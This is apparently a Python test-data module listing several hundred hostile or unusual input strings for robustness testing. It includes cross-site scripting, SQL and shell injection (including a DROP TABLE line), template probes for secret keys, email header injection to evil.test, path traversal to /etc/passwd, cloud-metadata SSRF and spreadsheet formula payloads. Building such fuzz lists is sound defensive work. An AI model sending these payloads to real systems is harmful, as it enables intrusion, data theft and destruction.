"""More than four hundred different strings that nobody types by accident, as bytes that a client may send."""

from itertools import product

MARKS = (
    "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<style>*{display:none}</style>",
    "<base href=//evil.test>", "<meta http-equiv=refresh content=0;//evil.test>",
    "<form action=//evil.test><input name=password>", "<a href=javascript:alert(1)>klik</a>",
    "\" onfocus=alert(1) autofocus x=\"", "' onmouseover='alert(1)", "<b>vet</b>", "&lt;script&gt;",
    "&#60;script&#62;", "<div data-hx-get=/logout data-hx-trigger=load>",
    "<math><mtext><script>alert(1)</script>", "<!-- weg -->", "\\u003cscript\\u003ealert(1)",
    "javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
TEMPLATES = (
    "{{ 1337 * 1337 }}", "${1337*1337}", "#{1337*1337}", "<%= 1337*1337 %>", "{% print(1337*1337) %}",
    "{{ request.app.state.context.settings.secret_key }}", "{{ ''.__class__.__mro__ }}", "{{ config }}",
    "%(name)s", "%s%s%s%n", "%d", "%999999999d", "{0}", "{0.__class__.__init__.__globals__}", "{number}",
    "{", "}", "{}", "$$", "{% raw %}", "{# weg #}", "@{1337*1337}", "*{1337*1337}", "%(", "%",
)  # fmt: skip
STATEMENTS = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE customer; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)",
    "' UNION SELECT password FROM customer --", "1 OR 1=1", "') OR ('1'='1", "admin'--", "\\'; --",
    "%' OR '%'='", "_%", "$1", "?", ":1", "'||(SELECT 1)||'", "10000001' AND SLEEP(9)#", "`id`", "$(id)",
    "; id", "| id", "&& id", "*)(uid=*", "NULL", "'\"`;",
)  # fmt: skip
HEADERS = (
    "a\r\nBcc: eva@evil.test", "a\nBcc: eva@evil.test", "a\rBcc: eva@evil.test",
    "a%0d%0aBcc: eva@evil.test", "a\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?q?a=0d=0aBcc:eva@evil.test?=", "=?utf-8?b?YQ0KQmNjOiBl?=", "=?", "a\u2028Bcc: eva@evil.test",
    "a\u2029Bcc: eva@evil.test", "a\x0bBcc: eva@evil.test", "a\x85Bcc: e@evil.test",
    "Set-Cookie: session=x", "a\r\nSet-Cookie: session=x", "a\r\nLocation: https://evil.test",
    "a\r\nContent-Length: 0", "kees@example.org, eva@evil.test", "kees@example.org\r\neva@evil.test",
    "<kees@example.org>", "kees@example.org;e", "\"kees\"@example.org", "kees@[127.0.0.1]", "@", "a@b@c",
    "kees@example.org?bcc=eva@evil.test", ".\r\nQUIT\r\n",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\boot.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd",
    "C:\\Windows\\win.ini", "\\\\evil.test\\share", "//evil.test", "https://evil.test", "/\\evil.test",
    "/%09/evil.test", "///evil.test", "http:evil.test", ".", "..", "/", "\\", "~", "CON", "NUL",
    "a/../../b", "http://127.0.0.1:5432/", "http://169.254.169.254/latest/meta-data", "php://filter",
    "gopher://127.0.0.1", 'a' * 300 + '.pdf', ".htaccess", "x.pdf.exe",
)  # fmt: skip
CELLS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.test\")", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "(Betaald) Tj", ") /JS (app.alert(1))", "<< /S /JavaScript >>", "endobj 1 0 obj", "%PDF-1.7",
    "\\)", "(", ")",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1e309", "NaN", "Infinity", "0x10", "1_0",
    "\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660", "１０００００００１", "1000-0001", "10000001 ",
    "99999999999999999999999999", "1.0", "1,0", "+31", "00000000", "²", "½", "Ⅷ", "-0", "2147483648",
    "9223372036854775808", "1/0", "true", "false", "null", "undefined", "None", "[]", "[object Object]",
)  # fmt: skip
LETTERS = (
    "山田 太郎", "\u0645\u062d\u0645\u062f", "\u05e9\u05dc\u05d5\u05dd", "Ελένη", "Łukasz Żółć", "José",
    "Jose\u0301", "ﬁ", "ß", "ẞ", "İ", "ı", "ǅ", "Å", "Å", "𝕂𝕖𝕖𝕤", "👩\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u0300\u0301", 'Z' + '̀́̂' * 60,
    "ก\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47", "नमस\u094dत\u0947", "ၑ", "\u200b",
    "a\u200bb", "\u200d", "\ufeff", "a\xadb", "\xa0", "\u3000", "\u2003x\u2003", "ᅟ", "ㅤ", "\ufdd0",
    "\U0010ffff", "\ue000", "�", "\u202eabc\u202c", "\u2066abc\u2069", "\u200fabc", "abc\u202e", "\u061c",
    "\U000e0001", "\ufdfa", "㍿", "１２", "ａｄｍｉｎ", "…", "\u202e", "、",
)  # fmt: skip
LONG = (
    'x' * 257, 'x' * 1001, 'x' * 5001, 'é' * 3000, '💥' * 2000, 'a ' * 3000, '\n' * 2000, '<' * 2000,
    '&' * 2000, "'" * 1500, '0' * 5000, '(' * 2000, 'a@' * 1500, '\\' * 2000, ' ' * 5000, '../' * 1500,
)  # fmt: skip
EMPTY = (
    "", " ", "\t", "\n", "\r\n", "\x0b", "\x0c", "\u2028", "''", "\"\"",
)  # fmt: skip
BROKEN = (
    b"\xff", b"\xfe\xff", b"\xc3", b"\xc3(", b"\xe2\x82", b"\xf0(\x8c(", b"\xed\xa0\x80", b"\xed\xbf\xbf",
    b"\xc0\x80", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"a\xffb", b"\x80\x81\x82", b"+/v8-",
    b"\x1b[31mrood", b"\xe2\x80\xae\xff", b"a\x00b", b"\x00", b"\x00" * 500, b"10000001\x00",
    b"\xef\xbb\xbfabc", b"\xfe\xff\x00<\x00s",
)  # fmt: skip
CONTROLS = [f"a{chr(code)}b".encode() for code in (*range(32), *range(0x7F, 0xA0))]
ENDS = ("", " Jansen")
PLACED = [f"{before}{mark}{end}" for before, mark, end in product(("Kees ", "x" * 199), MARKS, ENDS)]

_TEXTS = (*MARKS, *TEMPLATES, *STATEMENTS, *HEADERS, *PATHS, *CELLS, *NUMBERS, *LETTERS, *LONG, *EMPTY, *PLACED)
NASTY = tuple(dict.fromkeys([*(text.encode() for text in _TEXTS), *BROKEN, *CONTROLS]))
